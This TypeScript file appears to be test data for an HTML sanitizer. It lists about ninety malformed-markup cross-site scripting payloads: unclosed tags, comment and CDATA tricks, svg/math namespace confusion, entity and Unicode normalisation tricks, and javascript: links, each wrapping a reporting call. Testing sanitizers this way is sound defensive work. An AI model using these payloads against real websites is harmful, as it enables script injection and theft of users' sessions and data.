import { ownPicture, type PayloadCalls } from './markup.ts'

/**
 * Malformed markup, which browsers and other parsers interpret in different ways. `js` is the call
 * that reports the payload.
 */
export const broken: Readonly<Record<string, (hitCalls: PayloadCalls) => string>> = {
  // Tags that start, end or nest wrongly.
  'a tag left open': ({ js }) => `<img src=x onerror=${js} <b `,
  'a tag in a tag': ({ js }) => `<p <img src=x onerror=${js}>`,
  'two brackets': ({ js }) => `<<img src=x onerror=${js}>>`,
  'a tag after a false one': ({ js }) => `< img><img src=x onerror=${js}>`,
  'a tag after an empty one': ({ js }) => `<><img src=x onerror=${js}>`,
  'a tag name with a slash': ({ js }) => `<script/x>${js}</script>`,
  'a script with attributes at its end': ({ js }) => `<script>${js}</script x="</script>">`,
  'a script without an end': ({ js }) => `<script>${js}//`.concat('</script '),
  'a script in comment marks': ({ js }) => `<script><!--\n${js}//--></script>`,
  'a script in a CDATA section': ({ js }) => `<script>//<![CDATA[\n${js}//]]></script>`,
  'a script with a false end': ({ js }) => `<script>'</scrip';${js};'<!--'</script>`,
  'an end tag with a handler first': ({ js }) => `</p onclick="x"><svg/onload=${js}>`,
  'no space between attributes': ({ js }) => `<img src="x"onerror="${js}"alt="">`,
  'an equals sign first': ({ js }) => `<img =a src=x onerror=${js}>`,
  'a quote in a name': ({ js }) => `<img a"b'c src=x onerror=${js}>`,
  'a bracket in a name': ({ js }) => `<img a<b src=x onerror=${js}>`,
  'backticks for quotes': ({ js }) => `<img alt=\`><img src=x onerror=${js}>\``,
  'backticks in an allowed picture': ({ js }) =>
    `<img src="${ownPicture}" alt=\`"><svg onload=${js}>\``,
  'half a quotation': ({ js }) => `<p title="a" b">"><img src=x onerror=${js}>`,
  'many attributes before the handler': ({ js }) =>
    `<img ${Array.from({ length: 200 }, (_, index) => `a${index}=غاف`).join(' ')} src=x onerror=${js}>`,
  'many spaces before the attributes': ({ js }) => `<img${' '.repeat(2_000)}src=x onerror=${js}>`,
  'deep below blocks': ({ js }) => `${'<blockquote>'.repeat(60)}<img src=x onerror=${js}>`,
  'deep below inline elements': ({ js }) => `${'<b><i>'.repeat(60)}<svg onload=${js}>`,
  'deep below unknown elements': ({ js }) => `${'<x>'.repeat(120)}<img src=x onerror=${js}>`,
  // Comments, CDATA sections, declarations and processing instructions.
  'a comment that ends at once': ({ js }) => `<!--><img src=x onerror=${js}>-->`,
  'a comment that ends after a dash': ({ js }) => `<!---><img src=x onerror=${js}>-->`,
  'a comment that ends with a bang': ({ js }) => `<!--a--!><img src=x onerror=${js}>-->`,
  'a comment in a comment': ({ js }) => `<!--<!--a--><img src=x onerror=${js}>-->`,
  'a comment with a tag at its end': ({ js }) => `<!--غاف<img alt="--><img src=x onerror=${js}>">`,
  'a conditional comment of Internet Explorer': ({ js }) =>
    `<!--[if gte IE 4]><![endif]--><img src=x onerror=${js}><!--[if IE]>-->`,
  'a false comment': ({ js }) => `<! a="><img src=x onerror=${js}>">`,
  'a false declaration': ({ js }) => `<!DOCTYPE a [<!ENTITY b "><img src=x onerror=${js}>">]>`,
  'a false end tag': ({ js }) => `</ a="><img src=x onerror=${js}>">`,
  'a false element': ({ js }) => `<% a="><img src=x onerror=${js}>" %>`,
  'a processing instruction': ({ js }) => `<?xml a="><img src=x onerror=${js}>"?>`,
  'a CDATA section': ({ js }) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  'a CDATA section in a drawing': ({ js }) =>
    `<svg><![CDATA[<p>]]><image href=x onerror=${js}></svg>`,
  'a CDATA section in the description of a drawing': ({ js }) =>
    `<svg><desc><![CDATA[a]]><img src=x onerror=${js}></desc></svg>`,
  'a CDATA section that hides the end of an attribute': ({ js }) =>
    `<math><![CDATA[--><p a="]]><img src=x onerror=${js}>">`,
  // Elements whose content is text to some parsers and markup to others.
  'the end of a textarea': ({ js }) => `<textarea><p title="</textarea><img src=x onerror=${js}>">`,
  'the end of a title': ({ js }) => `<title><p title="</title><img src=x onerror=${js}>">`,
  'the end of a style': ({ js }) => `<style><p title="</style><img src=x onerror=${js}>">`,
  'the end of a noscript': ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  'the end of a noframes': ({ js }) => `<noframes><p title="</noframes><img src=x onerror=${js}>">`,
  'the end of a noembed': ({ js }) => `<noembed><p title="</noembed><img src=x onerror=${js}>">`,
  'the end of an xmp': ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  'the end of an iframe': ({ js }) => `<iframe><p title="</iframe><img src=x onerror=${js}>">`,
  'the end of a noscript, in a style': ({ js }) =>
    `<noscript><style></noscript><img src=x onerror=${js}></style>`,
  'an end tag with a slash': ({ js }) => `<textarea></textarea/><img src=x onerror=${js}>`,
  'a style in a drawing': ({ js }) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  'a textarea in a drawing': ({ js }) =>
    `<svg><textarea><img src=x onerror=${js}></textarea></svg>`,
  'a title in a drawing': ({ js }) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  'a description in a drawing': ({ js }) => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  'an xmp in a formula': ({ js }) => `<math><xmp><img src=x onerror=${js}></xmp></math>`,
  'a noscript in a drawing': ({ js }) =>
    `<svg><noscript><img src=x onerror=${js}></noscript></svg>`,
  'a paragraph that ends a drawing': ({ js }) =>
    `<svg></p><style><a title="</style><img src=x onerror=${js}>">`,
  'a break that ends a formula': ({ js }) =>
    `<math><br><style><a title="</style><img src=x onerror=${js}>">`,
  'a table in a formula': ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  'forms in a formula': ({ js }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  'a formula in a paragraph': ({ js }) =>
    `<math><mi><p><mglyph><svg><style><!--</style><img src=x onerror=${js}>-->`,
  'an annotation with markup': ({ js }) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${js}"></style></annotation-xml><annotation-xml><style><img src=x onerror=${js}></style>`,
  'a template in a select': ({ js }) =>
    `<select><template><p></template></select><img src=x onerror=${js}>`,
  'a style in a select': ({ js }) =>
    `<select><option><style></style></option></select><img src=x onerror=${js}>`,
  'a style in a table': ({ js }) =>
    `<table><style><tr title="</style></table><img src=x onerror=${js}>">`,
  'a script in a table': ({ js }) => `<table><tr><script>${js}</script></tr></table>`,
  'a picture in a table': ({ js }) =>
    `<table><tbody><img src=x onerror=${js}><tr><td>٣</td></tr></tbody></table>`,
  'a hidden field in a table': ({ js }) =>
    `<table><input type=hidden><a href=javascript:${js}>أ</a></table>`,
  'a drawing in a group of columns': ({ js }) =>
    `<table><colgroup><col><svg onload=${js}></colgroup></table>`,
  'a template that ends early': ({ js }) => `</template><img src=x onerror=${js}><template>`,
  'a body in the body': ({ js }) => `<body/onload=${js}><html/onclick=x>`,
  'a frameset in the body': ({ js }) =>
    `<frameset onload=${js}><frame></frameset><svg onload=${js}>`,
  'an inline element across blocks': ({ js }) => `<b><p></b><a href="javascript:${js}">أ</p></a>`,
  'links in links': ({ js }) => `<a href="/blog"><a href="javascript:${js}">أ</a></a>`,
  'a ruby text': ({ js }) => `<ruby><rt><svg onload=${js}></rt></ruby>`,
  'a plaintext element last': ({ js }) => `<img src=x onerror=${js}><plaintext>`,
  'entities without a semicolon': ({ js }) => `<a href="&#x6a&#x61vas&#x63ript&colon;${js}">أ</a>`,
  'an entity with many zeros': ({ js }) =>
    `<a href="javascript&#x0000000000000000003a;${js}">أ</a>`,
  'a null in the tag': ({ js }) => `<p\u0000><img src=x onerror=${js}>`,
  'nulls in tag names': ({ js }) =>
    `\u0000<im\u0000g><svg\u0000a onload=x><svg onload=${js}>\u0000`,
  'a combining stroke after the tag': ({ js }) => `<img alt=a src=x onerror=${js} \u0338>\u0338>`,
  'a combining stroke after the first quote': ({ js }) =>
    `<p title=a"\u0338><img src=x onerror=${js}>">`,
  'a character that normalises to a semicolon': ({ js }) =>
    `<a href="javascript&colon\u037E${js}">أ</a>`,
  'characters that normalise to a backtick': ({ js }) =>
    `<img alt=\u1FEF><img src=x onerror=${js}>\u1FEF`,
  'characters that normalise to letters': ({ js }) =>
    `<a href="javascript:/*\u212A\u212B*/${js}">أ</a>`,
  'an allowed picture with handlers': ({ js }) =>
    `<img src="${ownPicture}" alt="غاف" onload="${js}" onerror="${js}">`,
  'an allowed picture left open': ({ js }) =>
    `<img src="${ownPicture}" alt="غاف><svg onload=x>"><svg onload=${js}>`,
  'a link with a line in its name': ({ js }) => `<a\nhref\n=\n"javascript:${js}"\n>أ</a\n>`,
}
